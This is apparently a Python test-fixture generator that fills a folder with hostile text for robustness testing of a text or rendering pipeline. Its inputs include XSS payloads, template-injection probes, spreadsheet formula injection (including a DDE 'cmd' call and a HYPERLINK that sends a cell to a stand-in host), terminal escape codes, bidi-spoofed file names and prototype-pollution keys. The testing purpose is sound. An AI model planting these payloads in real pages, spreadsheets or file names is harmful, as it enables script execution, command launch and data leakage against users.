"""A folder of texts that try to become something else than text: markup, code, formulas, control characters."""

import json

# What would show that one of them ran: a global, an element, a dialog, a request.
RUN = "window.__pwned=1;document.body.appendChild(document.createElement('pwned'));alert('pwned')"
STRINGS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<svg onload=\"{RUN}\"><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
    f"<a href=\"javascript:{RUN}\">a harmless link</a>",
    f"[a harmless link](javascript:{RUN})",
    f"<iframe srcdoc=\"<script>parent.window.__pwned=1</script>\"></iframe>",
    "<style>body{display:none!important}</style>",
    "<link rel=stylesheet href=https://example.invalid/pwned.css>",
    "<img src=https://example.invalid/pwned.png>",
    "<meta http-equiv=refresh content='0;url=https://example.invalid/pwned'>",
    "<base href=https://example.invalid/><form action=https://example.invalid/><input autofocus onfocus=alert(1)>",
    "</textarea></title></style></section></main></body></html><pwned>",
    "<!-- an open comment, and <![CDATA[ an open section",
    "--> ]]> <!--<script> the state of a script that comments hide",
    "\" autofocus onfocus=\"window.__pwned=1\" x=\"",
    "' onmouseover='window.__pwned=1' x='",
    "\\\"};window.__pwned=1;//",
    "`${window.__pwned=1}`",
    "{{constructor.constructor('window.__pwned=1')()}} {% raw %} {{ 7*7 }} <%= 7*7 %> ${7*7} #{7*7}",
    "=HYPERLINK(\"https://example.invalid/?\"&A1,\"open\")",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+1", "-2+3", "\t=1+1",
    "lines\u2028that only\u2029JavaScript knows",
    "a name \u202eexe.tac\u202c that is turned around, and \u2066one \u2067more",
    "\x1b[31mred\x1b[0m \x1b]0;a title\x07 \x1b]8;;https://example.invalid\x07link\x1b]8;;\x07 \x9b31m",
    "a null \x00 byte, a bell \x07, a delete \x7f, a lone \ufeff mark and \ufffe",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;script&#62; &amp;lt;",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "zalgo: " + "e\u0301\u0302\u0303\u0304\u0306" * 40,
    "__proto__ constructor toString hasOwnProperty",
]
NAMES = [
    "<img src=x onerror=window.__pwned=1>.txt",
    "\"><script>window.__pwned=1<&>.txt",
    "=1+1.txt",
    "{{7*7}} ${7*7}.txt",
    "a\u202etxt.exe.txt",
    "line\nbreak \x1b[31m.txt",
    "javascript:window.__pwned=1.txt",
    "' onclick='window.__pwned=1.md",
]
PLAIN = {
    "arms": "The ministry signed an arms deal for artillery shells, and factories of ammunition work day and night on shells number {}.",
    "train": "The armoured train crossed the border at the railway station after a journey of {} hours with green carriages.",
    "space": "At the cosmodrome engineers showed a rocket and a launch pad for satellites to the guests of hall {}.",
}


def write(folder, long_paragraph):
    """Fills `folder`; one paragraph has `long_paragraph` bytes."""
    folder.mkdir(parents=True, exist_ok=True)
    for number, name in enumerate(NAMES):
        texts = [STRINGS[(number * 5 + offset) % len(STRINGS)] for offset in range(5)]
        paragraphs = [plain.format(number) + " " + texts[0] for plain in PLAIN.values()] + texts
        (folder / name).write_text("\n\n".join(paragraphs), encoding="utf-8")
    # A paragraph of its own for each, so often that the words of some become the words of a topic.
    with open(folder / "records.jsonl", "w", encoding="utf-8") as file:
        for number in range(6 * len(STRINGS)):
            bad = STRINGS[number % len(STRINGS)]
            other = STRINGS[(number * 7 + 3) % len(STRINGS)]
            plain = list(PLAIN.values())[number % 3].format(number)
            text = bad if number < len(STRINGS) else f"{bad} {plain} {bad}"
            record = {"id": f"{other} {number}", "text": text, "title": other, "source": bad, "date": f"2023-0{1 + number % 9}-11"}
            if number % 10 == 9:
                record["date"] = bad
            file.write(json.dumps(record) + "\n")
    with open(folder / "table.csv", "w", encoding="utf-8", newline="") as file:
        file.write("id,title,text,source\r\n")
        for number, bad in enumerate(STRINGS):
            quoted = '"' + bad.replace('"', '""').replace("\x00", "") + '"'
            file.write(f"{number},{quoted},{quoted},{quoted}\r\n")
    head = f"<title>{STRINGS[0].replace('<', '&lt;')}</title><meta name=author content='{STRINGS[5]}'>"
    body = "".join(f"<p>{PLAIN['space'].format(n)} {bad.replace('&', '&amp;').replace('<', '&lt;')}</p>" for n, bad in enumerate(STRINGS))
    (folder / "page.html").write_text(f"<!doctype html><html><head>{head}</head><body>{body}</body></html>", encoding="utf-8")
    # One word after another without an end of paragraph, and a word without an end.
    words = "<b>endless</b> sentence about the railway station & the train "
    (folder / "long.txt").write_text(words * (long_paragraph // len(words)), encoding="utf-8")
    (folder / "unbroken.txt").write_text("<i>&amp;" * (long_paragraph // 80), encoding="utf-8")
